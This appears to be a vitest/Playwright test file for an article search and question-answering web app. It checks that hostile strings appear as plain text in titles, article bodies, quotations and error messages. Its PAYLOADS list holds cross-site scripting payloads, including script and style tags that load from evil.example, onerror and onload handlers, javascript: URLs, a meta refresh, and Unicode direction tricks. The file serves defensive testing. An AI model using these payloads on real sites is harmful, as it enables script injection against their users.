import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect } from "vitest";
import { ask, askAndHear } from "./asking.js";
import { indexArticles } from "./index-articles.js";
import { openSite, type Site } from "./site.js";
import { it, PHONE } from "./visit.js";

/** Texts that would do something, or look like something else, if they were taken for more than text. */
const PAYLOADS: readonly string[] = [
  "<script>alert(1)</script>",
  "</p></div><script src=//evil.example/x.js></script>",
  '<img src=x onerror="alert(1)">',
  '<img src="https://evil.example/pixel.png">',
  "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">press here</a>',
  "[press here](javascript:alert(1)) ![x](https://evil.example/x.png)",
  "data:text/html,<script>alert(1)</script>",
  '" autofocus onfocus=alert(1) x="',
  "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<base href="https://evil.example/"><form action="/x"><button>Ask</button></form>',
  "<!-- a comment --> <![CDATA[ and such ]]> &lt;b&gt; &amp; &#x3c;",
  "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= alert(1) %>",
  "__proto__ constructor toString hasOwnProperty",
  "\u202Egnp.exe\u202C and \u2066left\u2069 and \u202Bright\u202C",
  "zero\u200Bwidth\u200D joiners\u2060 and a soft\u00ADhyphen",
  "Z\u0351\u036B\u0343\u0302a\u0321\u030A\u0354l\u0334\u0301g\u0338o\u0300".repeat(8),
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} and \u{1D518}\u{1D52B}\u{1D526}",
  `w${"o".repeat(10_000)}rd`,
];

/** A word that occurs in the article of one payload and in no other. */
const keyword = (index: number) => `Zarnovia${String.fromCharCode(97 + index)}q`;

const articleOf = (payload: string, index: number) =>
  `${payload}\n\nBy ${payload}\n\nThe envoy of ${keyword(index)} invited 12 guests, and said ${payload} to all of them.\n\n${payload}\n`;

/** What can stand in a file name of that. */
const fileNameOf = (payload: string, index: number) =>
  `${index} ${[...payload.replaceAll(/[/\\:*?"<>|\0]/g, "_")].slice(0, 40).join("")}.txt`;

let folder: string;
let site: Site;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "pullquote-hostile-"));
  const articles = join(folder, "articles");
  mkdirSync(articles);
  for (const [index, payload] of PAYLOADS.entries())
    writeFileSync(join(articles, fileNameOf(payload, index)), articleOf(payload, index));
  await indexArticles(articles, join(folder, "index"));
  site = await openSite(join(folder, "index"));
});

afterAll(async () => {
  await site.close();
  rmSync(folder, { recursive: true, force: true });
});

describe("hostile text", () => {
  it("is shown as text where it is a title, an author or a file name", async ({ visit }) => {
    const page = await visit(site.url, { viewport: PHONE });
    const links = page.getByRole("listitem").getByRole("link");
    await links.first().waitFor();
    const documents = await site.service.documents();
    expect(documents).toHaveLength(PAYLOADS.length);
    expect(await links.allTextContents()).toEqual(documents.map(({ title }) => title));
    expect(await page.locator("script, iframe, style, img, svg, base, #page form form").count()).toBe(1);
  });

  it("is shown as text where it is the text of an article", async ({ visit }) => {
    const page = await visit(site.url, { viewport: PHONE });
    for (const { id } of await site.service.documents()) {
      const { text } = (await site.service.document(id))!;
      await page.goto(`${site.url}/#/documents/${encodeURIComponent(id)}?start=0&end=${text.length - 1}`);
      const shown = page.locator(".article-text");
      await expect.poll(() => shown.textContent()).toBe(text);
      expect((await page.locator("mark.opened").allTextContents()).join("")).toBe(text.slice(0, -1));
      expect(await shown.locator(":not(div, mark)").count()).toBe(0);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width);
    }
  });

  it("is shown as text where it is a question or a quotation", async ({ visit }) => {
    const page = await visit(site.url, { viewport: PHONE });
    let quoted = 0;
    for (const [index, payload] of PAYLOADS.entries()) {
      const question = `What did the envoy of ${keyword(index)} say, ${payload}`.slice(0, 2_000).trim();
      const { turn, response } = await askAndHear(page, question);
      expect(response.question).toBe(question);
      expect(await turn.getByRole("heading", { level: 2 }).textContent()).toBe(question);
      const citations = [...response.citations, ...response.nearest];
      expect(await turn.locator(".quote").allTextContents()).toEqual(citations.map(({ quote }) => quote));
      expect(await turn.locator(".title").allTextContents()).toEqual(citations.map(({ document: { title } }) => title));
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width);
      if (citations.some(({ quote }) => quote.includes(payload))) quoted++;
    }
    // Else the payloads were never put to the test as quotations.
    expect(quoted).toBeGreaterThan(PAYLOADS.length / 2);
  });

  it("leaves what stands beside it in its own direction", async ({ visit }) => {
    const page = await visit(site.url);
    const index = PAYLOADS.findIndex((payload) => payload.includes("\u202E"));
    const turn = await ask(page, `What did the envoy of ${keyword(index)} say?`);
    const isolation = await turn
      .locator(".title bdi, .quote")
      .evaluateAll((elements) => elements.map((element) => getComputedStyle(element).unicodeBidi));
    expect(isolation.length).toBeGreaterThan(0);
    expect(new Set(isolation)).toEqual(new Set(["isolate"]));
  });

  it("in the server's error is shown as text", async ({ visit, incidents }) => {
    const payload = "<img src=x onerror=alert(1)>";
    const page = await visit(`${site.url}/#/documents/${encodeURIComponent(payload)}`);
    await page.locator(".panel .failure").getByText(payload, { exact: false }).waitFor();
    expect(incidents.splice(0)).toEqual([expect.stringContaining("404")]);
  });
});
